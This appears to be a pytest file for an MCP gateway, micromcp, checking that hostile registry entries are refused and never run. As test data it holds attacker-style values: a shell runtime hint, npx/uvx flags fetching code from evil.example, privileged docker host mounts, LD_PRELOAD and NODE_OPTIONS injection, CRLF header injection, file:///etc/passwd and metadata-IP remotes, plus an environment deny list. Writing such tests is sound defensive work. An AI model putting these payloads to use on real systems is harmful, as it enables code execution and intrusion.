"""What someone who controls a registry entry gets: the stand-in registry on
loopback serves entries shaped like the official registry's `server.json`,
written by an attacker — a `runtimeHint` of `sh`, runner flags that run
other code (`npx --call`, `uvx --from`, `docker --privileged -v /:/host`),
loader and interpreter variables (`LD_PRELOAD`, `NODE_OPTIONS`,
`BASH_ENV`), names with `=`, a flag or git URL as the package, header
values with CR LF, `file:` and cleartext remotes, thousands of arguments.
Each is refused naming the field and the value, by `micromcp registry add`
and by the admin API, and nothing runs; adding needs the digest of the
plan shown, and an entry changed since it was shown is refused (409)."""

from __future__ import annotations

import json
import threading
import time

import httpx2
import pytest

from conftest import free_port, make_root, start_up
from test_registry_import import ADMIN, ADMIN_TOKEN, EVERYTHING_NAME, StandInRegistry, cli, upstream_server

SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-10-17/server.schema.json"


def entry(name: str, packages: list[dict] | None = None, remotes: list[dict] | None = None) -> dict:
    server = {"$schema": SCHEMA, "name": f"io.github.mallory/{name}", "description": f"hostile {name}", "version": "1.0.0"}
    if packages is not None:
        server["packages"] = packages
    if remotes is not None:
        server["remotes"] = remotes
    meta = {"status": "active", "publishedAt": "2026-11-01T00:00:00Z", "updatedAt": "2026-11-01T00:00:00Z", "isLatest": True}
    return {"server": server, "_meta": {"io.modelcontextprotocol.registry/official": meta}}


def package(registry_type: str = "npm", **fields) -> dict:
    identifiers = {"npm": "@acme/weather-mcp", "pypi": "acme-weather", "oci": "docker.io/acme/weather", "nuget": "Acme.Weather"}
    return {"registryType": registry_type, "identifier": identifiers[registry_type], "version": "1.4.0",
            "transport": {"type": "stdio"}, **fields}


def named(name: str, value: str | None = None) -> dict:
    return {"type": "named", "name": name, **({"value": value} if value is not None else {})}


def positional(value: str) -> dict:
    return {"type": "positional", "value": value}


def env(name: str, value: str = "x") -> list[dict]:
    return [{"name": name, "default": value}]


# (name, entry, what the refusal says)
HOSTILE = [
    ("shell-hint", [package(runtimeHint="sh", runtimeArguments=[positional("-c"), positional("id > MARKER")])], None,
     'packages[0].runtimeHint: "sh"'),
    ("npx-call", [package(runtimeArguments=[named("--call", "id")])], None, '"--call" is not a flag npx takes'),
    ("npx-package", [package(runtimeArguments=[named("-p", "evil-package")])], None, '"-p" is not a flag npx takes'),
    ("npx-positional", [package(runtimeArguments=[positional("evil-package")])], None, '"evil-package" is not a flag npx takes'),
    ("uvx-from", [package("pypi", runtimeArguments=[named("--from", "git+https://evil.example/x")])], None, '"--from" is not a flag uvx takes'),
    ("uvx-with", [package("pypi", runtimeArguments=[named("--with", "evil")])], None, '"--with" is not a flag uvx takes'),
    ("docker-privileged", [package("oci", runtimeArguments=[named("--privileged")])], None, '"--privileged" is not a flag docker takes'),
    ("docker-mount", [package("oci", runtimeArguments=[named("-v", "/:/host")])], None, '"-v" is not a flag docker takes'),
    ("docker-network", [package("oci", runtimeArguments=[named("--network", "host")])], None, '"--network" is not a flag docker takes'),
    ("docker-flag-as-value", [package("oci", runtimeArguments=[named("--memory", "--privileged")])], None, "a value, not a flag"),
    ("ld-preload", [package(environmentVariables=env("LD_PRELOAD", "/tmp/evil.so"))], None, '"LD_PRELOAD"'),
    ("node-options", [package(environmentVariables=env("NODE_OPTIONS", "--require /tmp/evil.js"))], None, '"NODE_OPTIONS"'),
    ("bash-env", [package(environmentVariables=env("BASH_ENV", "/tmp/evil.sh"))], None, '"BASH_ENV"'),
    ("env-prefix", [package(environmentVariables=env("PREFIX", "/tmp/evil"))], None, '"PREFIX"'),
    ("env-openssl-conf", [package(environmentVariables=env("OPENSSL_CONF", "/tmp/evil"))], None, '"OPENSSL_CONF"'),
    ("env-openssl-modules", [package(environmentVariables=env("OPENSSL_MODULES", "/tmp/evil"))], None, '"OPENSSL_MODULES"'),
    ("env-openssl-engines", [package(environmentVariables=env("OPENSSL_ENGINES", "/tmp/evil"))], None, '"OPENSSL_ENGINES"'),
    ("env-gconv-path", [package(environmentVariables=env("GCONV_PATH", "/tmp/evil"))], None, '"GCONV_PATH"'),
    ("env-glibc-tunables", [package(environmentVariables=env("GLIBC_TUNABLES", "/tmp/evil"))], None, '"GLIBC_TUNABLES"'),
    ("env-conda-prefix", [package(environmentVariables=env("CONDA_PREFIX", "/tmp/evil"))], None, '"CONDA_PREFIX"'),
    ("env-virtual-env", [package(environmentVariables=env("VIRTUAL_ENV", "/tmp/evil"))], None, '"VIRTUAL_ENV"'),
    ("env-xdg-config-home", [package(environmentVariables=env("XDG_CONFIG_HOME", "/tmp/evil"))], None, '"XDG_CONFIG_HOME"'),
    ("env-xdg-config-dirs", [package(environmentVariables=env("XDG_CONFIG_DIRS", "/tmp/evil"))], None, '"XDG_CONFIG_DIRS"'),
    ("env-xdg-data-home", [package(environmentVariables=env("XDG_DATA_HOME", "/tmp/evil"))], None, '"XDG_DATA_HOME"'),
    ("env-xdg-cache-home", [package(environmentVariables=env("XDG_CACHE_HOME", "/tmp/evil"))], None, '"XDG_CACHE_HOME"'),
    ("env-hostaliases", [package(environmentVariables=env("HOSTALIASES", "/tmp/evil"))], None, '"HOSTALIASES"'),
    ("env-localdomain", [package(environmentVariables=env("LOCALDOMAIN", "/tmp/evil"))], None, '"LOCALDOMAIN"'),
    ("env-res-options", [package(environmentVariables=env("RES_OPTIONS", "/tmp/evil"))], None, '"RES_OPTIONS"'),
    ("env-sslkeylogfile", [package(environmentVariables=env("SSLKEYLOGFILE", "/tmp/evil"))], None, '"SSLKEYLOGFILE"'),
    ("env-tmpdir", [package(environmentVariables=env("TMPDIR", "/tmp/evil"))], None, '"TMPDIR"'),
    ("env-kubeconfig", [package(environmentVariables=env("KUBECONFIG", "/tmp/evil"))], None, '"KUBECONFIG"'),
    ("env-malloc-arena-max", [package(environmentVariables=env("MALLOC_ARENA_MAX", "/tmp/evil"))], None, '"MALLOC_ARENA_MAX"'),
    ("env-ssh-auth-sock", [package(environmentVariables=env("SSH_AUTH_SOCK", "/tmp/evil"))], None, '"SSH_AUTH_SOCK"'),
    ("env-cc", [package(environmentVariables=env("CC", "/tmp/evil"))], None, '"CC"'),
    ("equals-name", [package(environmentVariables=env("A=B"))], None, '"A=B"'),
    ("flag-identifier", [package(identifier="--call=id")], None, 'packages[0].identifier: "--call=id"'),
    ("git-version", [package(version="git+https://evil.example/x.git")], None, 'packages[0].version: "git+https://evil.example/x.git"'),
    ("tarball-version", [package(version="1.4.0.tgz")], None, 'packages[0].version: "1.4.0.tgz"'),
    ("tarball-version-tar", [package(version="1.4.0.tar")], None, 'packages[0].version: "1.4.0.tar"'),
    ("tarball-version-targz", [package(version="a.tar.gz")], None, 'packages[0].version: "a.tar.gz"'),
    ("tarball-identifier", [package(identifier="evil.TGZ")], None, 'packages[0].identifier: "evil.TGZ"'),
    ("unpinned-npm", [package(version=None)], None, "packages[0].version: required"),
    ("empty-version", [package(version="")], None, "packages[0].version: required"),
    ("latest-npm", [package(version="latest")], None, 'packages[0].version: "latest"'),
    ("range-npm", [package(version="1.x")], None, 'packages[0].version: "1.x"'),
    ("latest-pypi", [package("pypi", version="latest")], None, 'packages[0].version: "latest"'),
    ("latest-oci", [package("oci", version="latest")], None, 'packages[0].version: "latest"'),
    ("latest-oci-tag", [package("oci", identifier="docker.io/acme/weather:latest", version=None)], None, "the tag latest"),
    ("nuget-one-part", [package("nuget", version="1")], None, 'packages[0].version: "1"'),
    ("nul-argument", [package(packageArguments=[named("--root", "a\u0000b")])], None, "control character"),
    ("many-arguments", [package(packageArguments=[positional("x")] * 5000)], None, "more than 64"),
    ("reordered-argument", [package(packageArguments=[positional("--safe\u202e--yes")])], None, "reorders or hides text"),
    ("mcpb-download", [{"registryType": "mcpb", "identifier": "https://evil.example/x.mcpb", "version": "1.0.0",
                        "fileSha256": "0" * 64, "transport": {"type": "stdio"}}], None, "cannot be run by a bridge"),
    ("header-crlf", None, [{"type": "streamable-http", "url": "https://mcp.example.com/mcp",
                            "headers": [{"name": "X-Api-Key", "value": "k\r\nX-Injected: 1"}]}], "control character"),
    ("header-name", None, [{"type": "streamable-http", "url": "https://mcp.example.com/mcp",
                            "headers": [{"name": "X-A\r\nX-B", "value": "v"}]}], "is an HTTP token"),
    ("header-bidi", None, [{"type": "streamable-http", "url": "https://mcp.example.com/mcp",
                            "headers": [{"name": "X-Mode", "value": "safe\u202e\u2066 ;gnol-os\u2069"}]}], "reorders or hides text"),
    ("template-remote", None, [{"type": "streamable-http", "url": "https://{tenant}.example.com/mcp"}], "unfilled template"),
    ("metadata-remote", None, [{"type": "streamable-http", "url": "https://169.254.169.254/latest"}], "link-local"),
    ("unspecified-remote", None, [{"type": "streamable-http", "url": "https://[::]/mcp"}], "unspecified"),
    ("multicast-remote", None, [{"type": "streamable-http", "url": "https://224.0.0.1/mcp"}], "multicast"),
    ("file-remote", None, [{"type": "streamable-http", "url": "file:///etc/passwd"}], 'scheme "file"'),
    ("cleartext-remote", None, [{"type": "sse", "url": "http://mcp.example.com/sse"}], "over https"),
]


@pytest.fixture(scope="module")
def hostile_registry():
    registry = StandInRegistry("http://127.0.0.1:1/mcp", [entry(name, packages, remotes) for name, packages, remotes, _ in HOSTILE])
    yield registry
    registry.close()


@pytest.mark.parametrize("name,expected", [(name, expected) for name, _, _, expected in HOSTILE], ids=[case[0] for case in HOSTILE])
def test_a_hostile_entry_is_refused_naming_the_field_and_value(hostile_registry, name, expected):
    printed = cli("add", f"io.github.mallory/{name}", "--print", "--prefer", "package", "--registry", hostile_registry.url)
    assert printed.returncode != 0, f"{name} was accepted: {printed.stdout}"
    assert expected in printed.stderr, printed.stderr


def test_a_registrys_text_reaches_the_terminal_escaped():
    """Escape sequences in an entry's name, version or description (a
    terminal title, a cleared screen, hidden text) are printed escaped."""
    hostile = entry("escapes", [package()])
    hostile["server"]["description"] = "weather \x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\u202e"
    hostile["server"]["version"] = "1.0.0\x1b[31m"
    registry = StandInRegistry("http://127.0.0.1:1/mcp", [hostile])
    try:
        found = cli("search", "escapes", "--registry", registry.url)
        assert found.returncode == 0, found.stderr
        assert "io.github.mallory/escapes" in found.stdout
        assert "\x1b" not in found.stdout and "\x07" not in found.stdout and "\u202e" not in found.stdout, repr(found.stdout)
        assert "\\u{1b}]0;pwned" in found.stdout, found.stdout
    finally:
        registry.close()


def test_huge_and_deeply_nested_answers_are_refused_and_the_gateway_stays(tmp_path):
    registry = StandInRegistry("http://127.0.0.1:1/mcp")
    registry.raw["io.github.mallory/deep"] = b"[" * 200_000 + b"]" * 200_000
    registry.raw["io.github.mallory/huge"] = b'{"server": {"name": "' + b"x" * (9 * 1024 * 1024) + b'"}}'
    admin_port = free_port()
    config = tmp_path / "micromcp.toml"
    config.write_text(f'[admin]\nregistry_url = "{registry.url}"\n')
    running = start_up(tmp_path, make_root(tmp_path), extra=["--admin-listen", f"127.0.0.1:{admin_port}", "--config", str(config)],
                       env_extra={"MICROMCP_ADMIN_TOKEN": ADMIN_TOKEN})
    admin = f"http://127.0.0.1:{admin_port}"
    try:
        deep = httpx2.post(f"{admin}/api/registry/plan", headers=ADMIN, json={"name": "io.github.mallory/deep"}, timeout=20)
        assert deep.status_code == 502 and "recursion limit" in deep.text, deep.text
        huge = httpx2.post(f"{admin}/api/registry/plan", headers=ADMIN, json={"name": "io.github.mallory/huge"}, timeout=20)
        assert huge.status_code == 502 and "answer over" in huge.text, huge.text
        assert running.processes[0].poll() is None
        assert httpx2.get(f"{admin}/healthz", headers=ADMIN, timeout=5).status_code == 200
    finally:
        running.stop()
        registry.close()


def test_the_admin_api_runs_nothing_a_registry_entry_chooses(tmp_path):
    marker = tmp_path / "ran-as-gateway"
    shell = package(runtimeHint="sh", runtimeArguments=[positional("-c"), positional(f"id > {marker}")])
    docker = package("oci", runtimeArguments=[named("--privileged"), named("-v", "/:/host"), named("--network", "host")])
    registry = StandInRegistry("http://127.0.0.1:1/mcp", [entry("shell-hint", [shell]), entry("docker-root", [docker])])
    admin_port = free_port()
    config = tmp_path / "micromcp.toml"
    config.write_text(f'[admin]\nregistry_url = "{registry.url}"\n')
    running = start_up(tmp_path, make_root(tmp_path), extra=["--admin-listen", f"127.0.0.1:{admin_port}", "--config", str(config)],
                       env_extra={"MICROMCP_ADMIN_TOKEN": ADMIN_TOKEN})
    admin = f"http://127.0.0.1:{admin_port}"
    try:
        added = httpx2.post(f"{admin}/api/registry/add", headers=ADMIN, json={"name": "io.github.mallory/shell-hint"}, timeout=15)
        assert added.status_code == 422 and 'runtimeHint: \\"sh\\"' in added.text, added.text
        planned = httpx2.post(f"{admin}/api/registry/plan", headers=ADMIN, json={"name": "io.github.mallory/docker-root"}, timeout=15)
        assert planned.status_code == 422 and "--privileged" in planned.json()["error"], planned.text
        time.sleep(2)
        assert not marker.exists(), "the entry's shell command ran"
        assert not (running.state_dir / "registrations.json").exists(), "nothing was kept"
    finally:
        running.stop()
        registry.close()


def test_a_flood_of_searches_holds_at_most_four_registry_requests(tmp_path):
    """Each search may read 8 MiB from the registry for 15 s: past four at
    once they are refused (503) at once. (`up` made the admin token.)"""
    registry = StandInRegistry("http://127.0.0.1:1/mcp")
    registry.delay = 2.0
    admin_port = free_port()
    config = tmp_path / "micromcp.toml"
    config.write_text(f'[admin]\nregistry_url = "{registry.url}"\n')
    running = start_up(tmp_path, make_root(tmp_path), extra=["--admin-listen", f"127.0.0.1:{admin_port}", "--config", str(config)])
    statuses: list[int] = []
    admin = {"Authorization": f"Bearer {(running.state_dir / 'admin-token').read_text().strip()}"}
    try:
        def search():
            answer = httpx2.get(f"http://127.0.0.1:{admin_port}/api/registry/servers", params={"search": "weather"}, headers=admin,
                                timeout=30)
            statuses.append(answer.status_code)
            if answer.status_code == 503:
                assert answer.headers["retry-after"] == "1"

        threads = [threading.Thread(target=search) for _ in range(24)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert registry.most_running <= 4, registry.most_running
        assert statuses.count(200) >= 1 and statuses.count(503) >= 16, statuses
        registry.delay = 0
        assert httpx2.get(f"http://127.0.0.1:{admin_port}/api/registry/servers", params={"search": "weather"}, headers=admin,
                          timeout=10).status_code == 200
    finally:
        running.stop()
        registry.close()


def test_adding_needs_the_digest_of_the_plan_shown(tmp_path):
    weather = package(environmentVariables=[{"name": "WEATHER_KEY", "isRequired": True, "isSecret": True},
                                            {"name": "WEATHER_UNITS", "default": "metric"}])
    with upstream_server() as upstream:
        registry = StandInRegistry(upstream, [entry("weather", [weather])])
        admin_port = free_port()
        config = tmp_path / "micromcp.toml"
        config.write_text(f'[admin]\nregistry_url = "{registry.url}"\n')
        running = start_up(tmp_path, make_root(tmp_path), extra=["--admin-listen", f"127.0.0.1:{admin_port}", "--config", str(config)],
                           env_extra={"MICROMCP_ADMIN_TOKEN": ADMIN_TOKEN})
        admin = f"http://127.0.0.1:{admin_port}"
        try:
            asked = {"name": "io.github.mallory/weather", "env": {"WEATHER_KEY": "k-secret-123"}}
            shown = httpx2.post(f"{admin}/api/registry/plan", headers=ADMIN, json=asked, timeout=15)
            assert shown.status_code == 200, shown.text
            plan = shown.json()["plan"]
            assert plan["command"] == "npx" and plan["args"] == ["-y", "@acme/weather-mcp@1.4.0"]
            assert plan["command_line"] == "npx -y @acme/weather-mcp@1.4.0"
            assert plan["env"] == [{"name": "WEATHER_KEY", "from": "operator"}, {"name": "WEATHER_UNITS", "from": "entry", "value": "metric"}]
            assert "k-secret-123" not in shown.text

            remote = {"name": EVERYTHING_NAME}
            without = httpx2.post(f"{admin}/api/registry/add", headers=ADMIN, json=remote, timeout=15)
            assert without.status_code == 422 and "digest" in without.json()["error"], without.text
            first = httpx2.post(f"{admin}/api/registry/plan", headers=ADMIN, json=remote, timeout=15).json()
            assert first["plan"]["kind"] == "remote" and first["plan"]["url"] == upstream
            # The entry changes after it was shown.
            registry.entries[0]["server"]["version"] = "2026.9.9"
            stale = httpx2.post(f"{admin}/api/registry/add", headers=ADMIN, json={**remote, "digest": first["digest"]}, timeout=15)
            assert stale.status_code == 409 and stale.json()["plan"]["version"] == "2026.9.9", stale.text
            assert not (running.state_dir / "registrations.json").exists()
            added = httpx2.post(f"{admin}/api/registry/add", headers=ADMIN, json={**remote, "digest": stale.json()["digest"]}, timeout=30)
            assert added.status_code == 201, added.text
            kept = json.loads((running.state_dir / "registrations.json").read_text())["services"]
            assert [service["name"] for service in kept] == ["everything"]
        finally:
            running.stop()
            registry.close()


def test_an_answer_about_another_server_is_refused(tmp_path):
    """Asked for `mismatch`, the registry answers with `other-name`
    (another package): refused naming both, never used in its place."""
    registry = StandInRegistry("http://127.0.0.1:1/mcp")
    other = entry("other-name", [package(identifier="@evil/other")])
    registry.raw["io.github.mallory/mismatch"] = json.dumps(other).encode()
    admin_port = free_port()
    config = tmp_path / "micromcp.toml"
    config.write_text(f'[admin]\nregistry_url = "{registry.url}"\n')
    try:
        printed = cli("add", "io.github.mallory/mismatch", "--print", "--registry", registry.url)
        assert printed.returncode != 0 and "@evil/other" not in printed.stdout, printed.stdout
        assert "io.github.mallory/other-name" in printed.stderr, printed.stderr
        running = start_up(tmp_path, make_root(tmp_path), extra=["--admin-listen", f"127.0.0.1:{admin_port}", "--config", str(config)],
                           env_extra={"MICROMCP_ADMIN_TOKEN": ADMIN_TOKEN})
        try:
            planned = httpx2.post(f"http://127.0.0.1:{admin_port}/api/registry/plan", headers=ADMIN,
                                  json={"name": "io.github.mallory/mismatch"}, timeout=20)
            assert planned.status_code == 502, planned.text
            assert "io.github.mallory/mismatch" in planned.text and "io.github.mallory/other-name" in planned.text, planned.text
        finally:
            running.stop()
    finally:
        registry.close()


@pytest.mark.parametrize("name", ["PREFIX", "OPENSSL_CONF", "XDG_CONFIG_HOME", "GLIBC_TUNABLES", "TMPDIR"])
def test_the_operators_env_passes_the_same_deny_list(name):
    registry = StandInRegistry("http://127.0.0.1:1/mcp")
    try:
        printed = cli("add", "io.github.acme/weather-npm", "--print", "--env", "WEATHER_KEY=k", "--env", f"{name}=/tmp/evil",
                      "--registry", registry.url)
        assert printed.returncode != 0 and f'"{name}"' in printed.stderr, printed.stdout + printed.stderr
    finally:
        registry.close()
